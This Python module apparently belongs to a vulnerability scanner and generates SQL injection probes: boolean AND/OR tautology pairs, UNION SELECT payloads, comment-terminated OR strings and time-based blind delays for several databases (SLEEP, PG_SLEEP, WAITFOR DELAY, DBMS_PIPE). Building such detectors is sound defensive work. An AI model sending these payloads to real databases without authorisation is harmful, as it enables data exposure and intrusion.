"""Texts that mean something to a database only: pairs that show whether a value becomes part of a command (CWE-89).

No text here can widen a command that writes: those for writing operations join texts or add a condition with AND.
"""

import random
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Final


@dataclass(frozen=True, slots=True)
class Pair:
    """`same` means the value itself where the text becomes SQL; `other` is as odd, but means something else."""

    kind: str
    same: str
    other: str


def meaning_pairs(value: str, rng: random.Random, *, is_column: bool = False, reads: bool) -> Iterator[Pair]:
    """Yield pairs for a value that has a good answer of its own, with fresh constants at each call.

    Where the operation writes, texts are left out that some database would take for another row: MySQL reads
    `||` as OR and adds texts as numbers, and a text that is no number equals 0 there.
    """
    one, two = rng.randrange(11, 5_000), rng.randrange(5_001, 9_999)
    if is_column:
        yield Pair("column", f"{value},(SELECT {one})", f"{value},(SELCET {one})")
        return
    if value.isdigit() and len(value) < 16:
        number = int(value)
        # The other sum is below zero: no row has such a number.
        yield Pair("sum", f"{number + one}-{one}", f"{number + one}-{number + 2 * one}")
        yield Pair("number-and", f"{value} AND {one}={one}", f"{value} AND {one}={two}")
        yield Pair("number-and-bracket", f"{value}) AND ({one}={one}", f"{value}) AND ({one}={two}")
    if value:
        # The text is cut somewhere else each time.
        cut = rng.randrange(1, len(value)) if len(value) > 1 else 1
        head, tail = value[:cut], value[cut:]
        if reads:
            yield Pair("joined-bars", f"{head}'||'{tail}", f"{head}|''|{tail}")
            yield Pair("joined-plus", f"{head}'+'{tail}", f"{head}+''{tail}")
        yield Pair("joined-space", f"{head}' '{tail}", f"{head} ''{tail}")
        yield Pair("text-and", f"{value}' AND '{one}'='{one}", f"{value}' AND '{one}'='{two}")
        yield Pair("double-and", f'{value}" AND "{one}"="{one}', f'{value}" AND "{one}"="{two}')


def widening_pairs(missing: str, rng: random.Random) -> Iterator[Pair]:
    """Yield pairs for a value that nothing has: `other` finds nothing either, `same` finds everything. Reads only."""
    one, two = rng.randrange(11, 5_000), rng.randrange(5_001, 9_999)
    yield Pair("text-or", f"{missing}' OR '{one}' LIKE '{one}", f"{missing}' OR '{one}' LIKE '{two}")
    yield Pair("text-or-bracket", f"{missing}') OR ('{one}' LIKE '{one}", f"{missing}') OR ('{one}' LIKE '{two}")
    yield Pair("comment-or", f"{missing}' OR {one}={one} -- ", f"{missing}' OR {one}={two} -- ")
    if missing.isdigit():
        yield Pair("number-or", f"{missing} OR {one}={one}", f"{missing} OR {one}={two}")


def union_texts(missing: str, columns: int, rng: random.Random) -> tuple[str, str, str]:
    """Return a text that adds a row of `columns` fields, its like that does not, and the mark that the row shows."""
    head, tail = f"aw{rng.randrange(10**5, 10**6)}", f"wa{rng.randrange(10**5, 10**6)}"
    fields = ",".join([f"'{head}'||'{tail}'"] * columns)
    choose = " SELECT"
    before, after = ("", "") if missing.isdigit() else ("'", " -- ")
    attack, harmless = (f"{missing}{before} {verb}{choose} {fields}{after}" for verb in ("UNION", "UNOIN"))
    return attack, harmless, head + tail


@dataclass(frozen=True, slots=True)
class Delay:
    """Makes a database busy for `load` units: seconds for those that can wait, rows to count for SQLite."""

    dialect: str
    text: str
    unit: int

    @property
    def is_counting(self) -> bool:
        """Whether it counts rows, which takes as long as the machine needs, and not as long as told."""
        return self.unit > 1

    def after(self, value: str, load: float) -> str:
        """Return `value` followed by a wait or a count of that length."""
        amount = int(load * self.unit)
        whole = f"{load:.1f}" if self.dialect in ("postgresql", "mysql") else str(max(amount, 0))
        return value + self.text.replace("{load}", whole)


_COUNTING: Final = "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c WHERE x<{load}) SELECT x FROM c"
# Each text adds nothing to the value, so that it still means the same row, also where `||` is read as OR.
DELAYS: Final = (
    Delay("sqlite", f"'||(SELECT substr(count(*),1,0) FROM ({_COUNTING}) w)||'", 1_500_000),  # noqa: S608 - a probe
    Delay("postgresql", "'||(SELECT '' FROM PG_SLEEP({load}))||'", 1),
    Delay("mysql", "' AND (SELECT 1 FROM (SELECT(SLEEP({load})))w) AND '1'='1", 1),
    Delay("oracle", "'||(SELECT NULLIF(DBMS_PIPE.RECEIVE_MESSAGE('aw',{load}),1) FROM DUAL)||'", 1),
)
WAITING_READS: Final = (Delay("sqlserver", "';WAITFOR DELAY '0:0:{load}'-- ", 1),)
